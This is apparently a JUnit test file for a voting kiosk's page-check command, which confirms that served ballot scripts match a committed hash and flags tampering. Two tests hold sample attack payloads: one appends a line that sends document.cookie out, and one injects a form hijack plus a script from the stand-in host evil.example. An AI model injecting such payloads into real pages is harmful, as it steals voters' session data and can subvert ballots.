package kioskvote.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import java.util.function.BiFunction;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import kioskvote.StationExtension;
import kioskvote.pagecheck.CheckPageCommand;
import kioskvote.record.BallotPage;
import kioskvote.record.RecordHead;

/**
 * `kioskvote check-page` against a real station: the scripts it serves hash to what the open poll's commitment pins,
 * on the projector too; then through a go-between that changes one byte of a script, or writes a script into the
 * ballot page (what a station running other code, or an attacker on the air, would serve), the verdict is a mismatch.
 */
class CheckPageTest {
    private static final String POLL = "tin-nhiem";

    @RegisterExtension
    static final StationExtension station = StationExtension.inProcess();
    private static String slip;

    record Run(int exit, String output) {
    }

    @BeforeAll
    static void openAPoll() {
        Api api = station.api();
        Run before = check(station.url());
        assertEquals(CheckPageCommand.MISMATCH, before.exit(), before.output());
        assertTrue(before.output().contains("NOT CHECKED: no poll of this station has a commitment yet, and no --expect HASH"), before.output());
        Run expected = check(station.url(), "--expect", BallotPage.ofThisStation().sha256());
        assertEquals(CheckPageCommand.MATCH, expected.exit(), "before any poll opens, --expect alone: " + expected.output());
        slip = api.issueTokens(1).get(0);
        api.adminPost("/api/admin/present", Map.of("present", 40));
        assertEquals(200, api.adminPost("/api/admin/polls/" + POLL + "/open", Map.of()).status());
    }

    @Test
    void theStationServesTheBallotPageItsCommitmentPinsAndTheProjectorShowsIt() throws Exception {
        String pinned = BallotPage.ofThisStation().sha256();
        Run run = check(station.url());
        assertEquals(CheckPageCommand.MATCH, run.exit(), run.output());
        assertTrue(run.output().contains("Poll " + POLL + " (open) committed " + pinned + ": match"), run.output());
        assertTrue(run.output().contains("MATCH: the station serves the ballot page its commitment pins."), run.output());
        // A voter's own slip opens their real ballot page (all six scripts of a sealed poll), without using the slip.
        Run own = check(station.url() + "/V#" + slip, "--expect", pinned.substring(0, 16));
        assertEquals(CheckPageCommand.MATCH, own.exit(), own.output());
        assertTrue(own.output().contains("/v/") && own.output().contains("loads 6 scripts"), own.output());
        assertTrue(own.output().contains("--expect " + pinned.substring(0, 16) + ": match"), own.output());
        // The same hash on the projector, for the room to compare.
        String chair = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(station.url() + "/chair")).build(),
                HttpResponse.BodyHandlers.ofString()).body();
        assertTrue(chair.contains(RecordHead.grouped(pinned.substring(0, 32))), "the projector shows the page hash");
    }

    @Test
    void aScriptChangedOnTheWayIsAMismatch() throws Exception {
        try (Proxy proxy = new Proxy(station.url(), (path, body) -> path.equals("/static/seal.js")
                ? (new String(body, StandardCharsets.UTF_8) + "\n;fetch('/x?'+document.cookie);").getBytes(StandardCharsets.UTF_8) : body)) {
            Run run = check(proxy.url());
            assertEquals(CheckPageCommand.MISMATCH, run.exit(), run.output());
            assertTrue(run.output().contains("Poll " + POLL + " (open) committed " + BallotPage.ofThisStation().sha256() + ": DIFFERENT"), run.output());
            assertTrue(run.output().contains("MISMATCH: do not vote on this page"), run.output());
        }
    }

    @Test
    void aScriptWrittenIntoTheBallotPageOrLoadedFromElsewhereIsAMismatch() throws Exception {
        BiFunction<String, byte[], byte[]> inject = (path, body) -> path.startsWith("/v/")
                ? new String(body, StandardCharsets.UTF_8).replace("</head>", "<script>document.forms[0].action='/x'</script>"
                        + "<script src=\"http://evil.example/a.js\"></script></head>").getBytes(StandardCharsets.UTF_8) : body;
        try (Proxy proxy = new Proxy(station.url(), inject)) {
            Run run = check(proxy.url() + "/V#" + slip);
            assertEquals(CheckPageCommand.MISMATCH, run.exit(), run.output());
            assertTrue(run.output().contains("inline"), run.output());
            assertTrue(run.output().contains("a script from elsewhere: http://evil.example/a.js"), run.output());
        }
    }

    @Test
    void aWrongExpectedHashAStationThatDoesNotAnswerAndABadArgumentEachSaySo() throws Exception {
        Run wrong = check(station.url(), "--expect", "0000 1111 2222 3333");
        assertEquals(CheckPageCommand.MISMATCH, wrong.exit(), wrong.output());
        assertTrue(wrong.output().contains("--expect 0000111122223333: DIFFERENT"), wrong.output());
        int closed;
        try (ServerSocket free = new ServerSocket(0)) {
            closed = free.getLocalPort();
        }
        Run down = check("http://127.0.0.1:" + closed);
        assertEquals(CheckPageCommand.UNREACHABLE, down.exit(), down.output());
        assertTrue(down.output().contains("UNREACHABLE: http://127.0.0.1:" + closed + "/ did not answer"), down.output());
        assertEquals(CheckPageCommand.USAGE, check("not a url").exit());
        assertEquals(CheckPageCommand.USAGE, check(station.url(), "--expect", "xyz").exit());
        Run unknownPoll = check(station.url(), "--poll", "no-such-poll");
        assertEquals(CheckPageCommand.MISMATCH, unknownPoll.exit(), unknownPoll.output());
    }

    private static Run check(String... args) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int exit = CheckPageCommand.run(new PrintStream(out, true, StandardCharsets.UTF_8), args);
        return new Run(exit, out.toString(StandardCharsets.UTF_8));
    }

    /** A go-between on the air: passes every GET to the station, and lets {@code change} rewrite an answer's body. */
    static final class Proxy implements AutoCloseable {
        private final HttpServer server;

        Proxy(String station, BiFunction<String, byte[], byte[]> change) throws Exception {
            HttpClient client = HttpClient.newHttpClient();
            server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
            server.createContext("/", exchange -> {
                try (exchange) {
                    String path = exchange.getRequestURI().getRawPath();
                    String query = exchange.getRequestURI().getRawQuery();
                    HttpResponse<byte[]> answer = client.send(HttpRequest.newBuilder(URI.create(station + path + (query == null ? "" : "?" + query)))
                            .build(), HttpResponse.BodyHandlers.ofByteArray());
                    byte[] body = change.apply(path, answer.body());
                    answer.headers().firstValue("Content-Type").ifPresent(type -> exchange.getResponseHeaders().add("Content-Type", type));
                    exchange.sendResponseHeaders(answer.statusCode(), body.length == 0 ? -1 : body.length);
                    if (body.length > 0) exchange.getResponseBody().write(body);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            server.start();
        }

        String url() {
            return "http://127.0.0.1:" + server.getAddress().getPort();
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }
}
